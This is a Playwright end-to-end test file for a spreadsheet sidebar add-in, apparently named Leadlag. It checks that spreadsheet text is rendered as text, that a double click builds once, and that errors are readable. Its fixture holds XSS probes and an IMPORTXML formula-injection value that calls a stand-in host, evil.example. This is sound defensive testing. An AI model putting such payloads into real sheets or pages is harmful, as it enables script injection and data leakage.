import type { Page } from 'playwright-core';
import { MemoryWorkbook } from '../../src/server/adapters/memory/memoryWorkbook';
import { writeSidebar } from '../../scripts/build';
import type { Preview } from '../../src/preview/server';
import { axe, openPreview, screenshot, serious, sidebarReady, type Browser, type Opened } from './helpers';

/**
 * Text from the spreadsheet is shown as text, never run as HTML or as a formula; failures read as
 * messages a manager can act on; a double click builds once.
 */
jest.setTimeout(60_000);

const IMG = '<img src=x onerror=alert(1)>';
const SCRIPT = '<script>alert(2)</script>';
const FORMULA = '=IMPORTXML("http://evil.example/x","//a")';
const SHEET = '<b onmouseover=alert(3)>Notes</b>';

function hostileWorkbook(): MemoryWorkbook {
  const names = [IMG, FORMULA, SCRIPT, 'Acme Ltd', 'Bolt & Co'];
  const sales: (string | number)[][] = [['Order Date', 'Customer', 'Net Sales', 'Comment']];
  const feedback: (string | number)[][] = [['Date', 'Customer', 'How likely are you to recommend us?', 'What dissatisfies you?']];
  for (let i = 0; i < 60; i++) {
    const day = `2026-${String(1 + (i % 6)).padStart(2, '0')}-${String(1 + (i % 27)).padStart(2, '0')}`;
    sales.push([day, names[i % names.length], 100 + i * 7, i % 2 ? FORMULA : IMG]);
    feedback.push([day, names[(i + 1) % names.length], i % 11, i % 3 ? IMG : SCRIPT]);
  }
  return MemoryWorkbook.fromGrids({ Sales: sales, Feedback: feedback, [SHEET]: [['Just a note'], [IMG]] });
}

let opened: Opened;
let preview: Preview;
let browser: Browser;
let page: Page;

beforeAll(async () => {
  await writeSidebar();
  // Each build waits 1.5 s first, as a round trip to Google would: time to double-click.
  opened = await openPreview(
    { workbook: hostileWorkbook(), spreadsheetName: `${IMG} budget`, latency: (c) => (c === 'buildScorecard' ? 1500 : 0) },
    '/?sidebar=home',
  );
  ({ preview, browser, page } = opened);
});

afterAll(() => opened?.close());

test('names, comments and sheet names from the data are plain text in the sidebar and on the page', async () => {
  let frame = await sidebarReady(page, 'home');
  await frame.getByText(SHEET, { exact: true }).waitFor();
  await expect(frame.getByRole('heading', { name: `Found in “${IMG} budget”` }).isVisible()).resolves.toBe(true);
  await frame.getByRole('button', { name: 'Build scorecard' }).click();
  frame = await sidebarReady(page, 'wizard-1');
  await frame.getByRole('button', { name: 'Next' }).click();
  frame = await sidebarReady(page, 'wizard-2');
  const preview1 = frame.getByRole('region', { name: 'First rows of “Sales”' });
  await expect(preview1.getByRole('cell', { name: IMG, exact: true }).first().isVisible()).resolves.toBe(true);
  await expect(preview1.getByRole('cell', { name: FORMULA, exact: true }).first().isVisible()).resolves.toBe(true);
  const preview2 = frame.getByRole('region', { name: 'First rows of “Feedback”' });
  await expect(preview2.getByRole('cell', { name: SCRIPT, exact: true }).first().isVisible()).resolves.toBe(true);
  await screenshot(page, 'hostile-columns');
  expect(serious(await axe(frame))).toEqual([]);

  // The page: the sheet tab's name and its cells are text; the formula-looking text is not computed.
  await page.getByRole('tab', { name: SHEET }).click();
  await page.waitForSelector('table.sheet[data-sheet="<b onmouseover=alert(3)>Notes</b>"]');
  await expect(page.locator('td[data-cell="A2"]').textContent()).resolves.toBe(IMG);
  await page.getByRole('tab', { name: 'Sales' }).click();
  await page.waitForSelector('table.sheet[data-sheet="Sales"]');
  await expect(page.locator('td[data-cell="B3"]').textContent()).resolves.toBe(FORMULA);
  await expect(page.locator('td[data-cell="D2"]').textContent()).resolves.toBe(IMG);
  await expect(page.locator('td[data-cell="B4"]').textContent()).resolves.toBe(SCRIPT);
  await page.locator('td[data-cell="B2"]').hover();
  await page.getByRole('tab', { name: SHEET }).hover();
  await screenshot(page, 'hostile-page');

  // Nothing was parsed as markup, nothing ran.
  for (const target of [page, frame]) {
    await expect(target.locator('img, b, script:not(:is(head script, body > script))').count()).resolves.toBe(0);
  }
  expect(browser.dialogs).toEqual([]);
});

test('a double click builds once, and the progress shows meanwhile', async () => {
  let frame = await sidebarReady(page, 'wizard-2');
  await frame.getByRole('button', { name: 'Next' }).click();
  frame = await sidebarReady(page, 'wizard-3');
  await frame.getByRole('button', { name: 'Next' }).click();
  frame = await sidebarReady(page, 'wizard-4');
  const before = preview.calls.filter((c) => c === 'buildScorecard').length;
  await frame.getByRole('button', { name: 'Build scorecard' }).dblclick();
  await frame.getByRole('progressbar').waitFor();
  await frame
    .getByRole('button', { name: 'Build scorecard' })
    .click({ force: true })
    .catch(() => undefined);
  await sidebarReady(page, 'built', 20_000);
  expect(preview.calls.filter((c) => c === 'buildScorecard').length - before).toBe(1);
  await page.waitForSelector('table.sheet[data-sheet="Scorecard"]');
  expect(browser.dialogs).toEqual([]);
});

test('a failure says what happened and what to do, never a stack trace', async () => {
  // The sales column is renamed between the wizard's steps.
  await page.getByRole('button', { name: 'Build scorecard', exact: true }).click();
  let frame = await sidebarReady(page, 'wizard-1');
  for (const step of [2, 3, 4]) {
    await frame.getByRole('button', { name: 'Next' }).click();
    frame = await sidebarReady(page, `wizard-${step}`);
  }
  preview.workbook.sheet('Sales')!.writeBlock(1, 3, [[{ text: 'Amount' }]]);
  await frame.getByRole('button', { name: 'Build scorecard' }).click();
  const alert = frame.getByRole('alert');
  await alert.waitFor({ timeout: 20_000 });
  const text = (await alert.textContent()) ?? '';
  expect(text).toContain('The scorecard was not built');
  expect(text).toContain('"Sales" has no column "Net Sales" (for amount) any more. Confirm the columns again in the wizard.');
  expect(text).not.toMatch(/\bat\s+\S+\s*\(|\.ts:\d+|Error:/);
  await screenshot(page, 'error-build');
  expect(serious(await axe(frame))).toEqual([]);
  // The way out it offers: read the sheets again, confirm the columns, build.
  await expect(frame.getByRole('button', { name: 'Back' }).isEnabled()).resolves.toBe(true);
  await frame.getByRole('button', { name: 'Read the sheets again and check the columns' }).click();
  frame = await sidebarReady(page, 'wizard-2');
  await expect(frame.getByLabel('Amount', { exact: true }).inputValue()).resolves.toBe('amount');
  for (const step of [3, 4]) {
    await frame.getByRole('button', { name: 'Next' }).click();
    frame = await sidebarReady(page, `wizard-${step}`);
  }
  await frame.getByRole('button', { name: 'Build scorecard' }).click();
  await sidebarReady(page, 'built', 20_000);

  // An unexpected server error: the generic message, and Try again works once it is gone.
  const wb = preview.workbook;
  const sheetNames = wb.sheetNames.bind(wb);
  wb.sheetNames = () => {
    throw new TypeError("Cannot read properties of undefined (reading 'x')");
  };
  await page.getByRole('button', { name: 'Open Leadlag' }).click();
  await page.waitForTimeout(50);
  const home = page.frameLocator('#sidebar-frame');
  await home.getByRole('alert').waitFor();
  const message = (await home.getByRole('alert').textContent()) ?? '';
  expect(message).toContain('Something went wrong in Leadlag');
  expect(message).toContain('Try again');
  expect(message).not.toMatch(/\bat\s+\S+\s*\(|\.ts:\d+/);
  wb.sheetNames = sheetNames;
  await home.getByRole('button', { name: 'Try again' }).click();
  await sidebarReady(page, 'home');
  expect(browser.outside).toEqual([]);
});
